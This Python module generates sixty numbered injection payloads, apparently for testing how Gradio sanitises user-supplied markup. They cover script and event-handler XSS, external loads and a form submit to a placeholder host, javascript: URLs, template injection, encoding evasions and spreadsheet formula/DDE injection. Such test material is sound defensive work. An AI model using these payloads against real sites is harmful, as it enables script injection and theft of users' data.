"""Sixty ways to get a script to run, a picture to load or a page to be left, where a page takes somebody's words for markup.

Each tells of itself by its number: `window.__ran`, a dialog, or a request to a host that is nobody's.
"""

from __future__ import annotations

AWAY = "http://outside.example"
_RUN = "(window.__ran=window.__ran||[]).push({n})"

# {run} is a script, {away} an address elsewhere, {n} the number.
_WRITTEN = (
    # scripts
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script src={away}></script>",
    "</title></textarea></style></script><script>{run}</script>",
    "<script\n>{run}</script\n>",
    "<<script>{run}//<</script>",
    "<script type=module>import '{away}'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror='{run}'>\">",
    # events
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'//",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    '" autofocus onfocus={run} x="',
    "<marquee onstart={run}>x</marquee>",
    "<select autofocus onfocus={run}></select>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={run}>x</b>",
    # requests elsewhere
    "<img src={away}/a.png>",
    "<img srcset='{away}/b.png 1x, {away}/c.png 2x'>",
    "<picture><source srcset={away}/d.png><img src=data:,></picture>",
    "<style>@import '{away}/e.css';</style>",
    "<style>body{{background:url({away}/f.png)}}</style>",
    "<p style=\"background-image:url('{away}/g.png')\">x</p>",
    "<link rel=stylesheet href={away}/h.css>",
    "<link rel=prefetch href={away}/i>",
    "<iframe src={away}/j></iframe>",
    "<iframe srcdoc='<script>parent.{bare}</script>'></iframe>",
    "<object data={away}/k></object>",
    "<embed src={away}/l>",
    "<base href={away}/>",
    "<meta http-equiv=refresh content='0;url={away}/m'>",
    "<form action={away}/n><input name=q></form><script>document.forms[0].submit()</script>",
    "<svg><image href={away}/o.png /></svg>",
    "<svg><use href='{away}/p.svg#a'/></svg>",
    "<video poster={away}/q.png></video>",
    "<table background={away}/r.png><tr><td>x</table>",
    "<a href={away}/s ping={away}/t>x</a>",
    # addresses that are scripts, and other tongues of markup
    "<a href='javascript:{run}'>x</a>",
    "<iframe src='javascript:parent.{bare}'></iframe>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<iframe src='data:text/html,<script>parent.{bare}</script>'></iframe>",
    "[x](javascript:{run})",
    "![x]({away}/u.png) and [y]({away}/v)",
    "![x][r]\n\n[r]: {away}/w.png",
    "javascript:{run}",
    # templates of Gradio's pages, of the server and of what comes between
    "${{{bare}}} ${{`${{{bare}}}`}}",
    "{{{{constructor.constructor('{bare}')()}}}} {{% raw %}}{{{{ 7*7 }}}}",
    "{{{{#each this}}}}{{{{{bare}}}}}{{{{/each}}}} <%= {bare} %> #{{{bare}}}",
    # letters that look like others, that turn the line around, that are cut in two
    "\u202e<script>{run}</script>\u2066 ＜script＞{run}＜/script＞ \u2028<img src=x onerror={run}>",
    "%3Cimg%20src%3Dx%20onerror%3D{run}%3E &lt;img src=x onerror={run}&gt; \\u003cimg src=x onerror={run}\\u003e",
    # spreadsheets
    '=HYPERLINK("{away}/y","pay here")',
    '+cmd|"/c calc"!A1 {n}',
)  # fmt: skip


def _made(number: int, text: str) -> str:
    bare = f"__ran_{number}=1"
    return text.format(run=_RUN.format(n=number), away=f"{AWAY}/{number}", n=number, bare=bare)


PAYLOADS: tuple[str, ...] = tuple(_made(number, each) for number, each in enumerate(_WRITTEN))
